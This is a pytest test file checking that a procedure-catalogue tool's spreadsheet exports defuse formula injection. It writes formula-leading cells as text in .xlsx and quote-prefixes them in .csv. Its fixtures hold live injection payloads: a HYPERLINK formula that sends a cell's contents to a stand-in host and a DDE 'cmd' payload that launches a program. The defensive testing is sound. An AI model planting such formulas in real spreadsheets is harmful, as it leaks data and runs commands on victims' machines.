"""Every spreadsheet qms writes holds text as text: a TTHC name, a process title, a unit name that
starts like a formula is never a live formula in an .xlsx, nor a cell a spreadsheet program runs
in a .csv; and an export re-imports unchanged (issue 14, defect 1)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

import openpyxl
import pytest

from qms.cli import main

INJECTION = '=HYPERLINK("http://x.example/?d="&A2,"x")'
#: The issue's reproduction, byte for byte.
INJECTION_CSV = 'Mã đơn vị,Mã TTHC,Tên TTHC\n03386,7.000001,"=HYPERLINK(""http://x.example/?d=""&A2,""x"")"\n'


def formulas(xlsx_bytes: bytes) -> list[str]:
    """The formula elements of every sheet of a workbook (what Excel would run)."""
    book = zipfile.ZipFile(io.BytesIO(xlsx_bytes))
    return [f for name in book.namelist() if name.startswith("xl/worksheets/")
            for f in re.findall(r"<f[ >].*?</f>|<f/>", book.read(name).decode())]


def texts(xlsx_bytes: bytes) -> list[tuple[object, str]]:
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes))
    return [(c.value, c.data_type) for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def cli(capsys, *args) -> tuple[int, str]:
    code = main([str(a) for a in args])
    out = capsys.readouterr()
    return code, out.out + out.err


def test_the_issue_reproduction_exports_text_not_a_formula(capsys, tmp_path, province_path):
    inj = tmp_path / "inj.csv"
    inj.write_text(INJECTION_CSV, encoding="utf-8")
    assert cli(capsys, "--db", province_path, "import-tthc", inj)[0] == 0
    out = tmp_path / "out.xlsx"
    assert cli(capsys, "--db", province_path, "export-tthc", out)[0] == 0
    data = out.read_bytes()
    assert formulas(data) == []
    assert (INJECTION, "s") in texts(data)
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert next(c for row in ws.iter_rows() for c in row if c.value == INJECTION).quotePrefix  # shown as text when edited


def test_the_csv_export_protects_the_cell_and_re_imports_unchanged(capsys, tmp_path, province_path):
    inj = tmp_path / "inj.csv"
    inj.write_text(INJECTION_CSV, encoding="utf-8")
    cli(capsys, "--db", province_path, "import-tthc", inj)
    for name in ("out.csv", "out.xlsx"):
        out = tmp_path / name
        assert cli(capsys, "--db", province_path, "export-tthc", out)[0] == 0
        if name.endswith(".csv"):
            cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for c in row]
            assert "'" + INJECTION in cells and not any(c.startswith(("=", "+", "-", "@")) for c in cells)
        code, said = cli(capsys, "--db", province_path, "import-tthc", out)
        assert code == 0 and "0 new catalogue entries" in said and "1 unchanged" in said and "0 renamed" in said


@pytest.mark.parametrize("title", ["=1+1", "+SUM(1,2)", "-2+3", "@SUM(A1:A2)", "=cmd|' /C calc'!A0"])
def test_process_exports_write_title_and_legal_basis_as_text(capsys, tmp_path, province_path, title):
    tthc = tmp_path / "t.csv"
    tthc.write_text("Mã đơn vị,Mã TTHC,Tên TTHC\n03386,1.000001,Khai sinh\n", encoding="utf-8")
    processes = tmp_path / "p.csv"
    basis = "-Luật Hộ tịch 2014"
    with processes.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["Mã đơn vị", "Mã quy trình", "Tên quy trình", "Mã TTHC", "Ngày ban hành", "Căn cứ pháp lý"],
                                 ["03386", "QT-01", title, "1.000001", "01/03/2021", basis]])
    assert cli(capsys, "--db", province_path, "import-tthc", tthc)[0] == 0
    assert cli(capsys, "--db", province_path, "import-processes", processes)[0] == 0
    out = tmp_path / "qt.xlsx"
    assert cli(capsys, "--db", province_path, "export-processes", out)[0] == 0
    assert formulas(out.read_bytes()) == [] and {(title, "s"), (basis, "s")} <= set(texts(out.read_bytes()))
    out_csv = tmp_path / "qt.csv"
    assert cli(capsys, "--db", province_path, "export-processes", out_csv)[0] == 0
    assert f"'{title}" in out_csv.read_text(encoding="utf-8-sig") and f"'{basis}" in out_csv.read_text(encoding="utf-8-sig")


def test_the_status_template_writes_unit_names_as_text(capsys, tmp_path):
    db = tmp_path / "s.duckdb"
    units = tmp_path / "units.csv"
    units.write_text('gso_code,name,level,kind,parent_gso_code\n12,Tỉnh Thử,province,tinh,\n105,"=HYPERLINK(""http://x"")",district,huyen,12\n'
                     '03386,@SUM(1),commune,xa,105\n', encoding="utf-8")
    assert cli(capsys, "--db", db, "import-units", units)[0] == 0
    out = tmp_path / "mau.xlsx"
    assert cli(capsys, "--db", db, "status-template", "--out", out)[0] == 0
    found = texts(out.read_bytes())
    assert formulas(out.read_bytes()) == [] and ("@SUM(1)", "s") in found and ('=HYPERLINK("http://x")', "s") in found


def test_the_annual_report_keeps_numbers_numbers_and_text_text(demo_db):
    from qms.exports import annual_report

    data = annual_report.xlsx_bytes(annual_report.report(demo_db, 2021, today=dt.date(2022, 1, 5)))
    found = texts(data)
    assert formulas(data) == []
    assert all(kind == "n" for value, kind in found if isinstance(value, int)) and any(isinstance(v, int) for v, _ in found)
    assert all(kind == "s" for value, kind in found if isinstance(value, str))


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_every_formula_start_is_written_as_text(text):
    from qms.kernel.spreadsheet_writing import csv_protect, write_csv, write_xlsx

    assert csv_protect(text) == "'" + text.replace("\r", "\n")
    data = write_xlsx([("S", ["h"], [[text], [-1], [2.5], [dt.date(2021, 3, 5)]])])
    assert formulas(data) == []
    values = [v for v, _ in texts(data)]
    # the text itself: openpyxl writes through lxml (installed with python-docx), which keeps a CR
    # as a character reference (without lxml, an XML reader turns a bare CR into a line feed)
    assert values[0] == "h" and values[1] == text
    assert values[2:] == [-1, 2.5, dt.datetime(2021, 3, 5)]
    rows = list(csv.reader(io.StringIO(write_csv(["h"], [[text], [-1]]).decode("utf-8-sig"), newline="")))
    assert rows == [["h"], ["'" + text.replace("\r", "\n")], ["-1"]]  # one record each; a number stays a number


def test_put_makes_a_normal_workbook_cell_text():
    from qms.kernel.spreadsheet_writing import put

    ws = openpyxl.Workbook().active
    assert put(ws.cell(1, 1), "=1+1").data_type == "s" and put(ws.cell(1, 2), 5).data_type == "n"
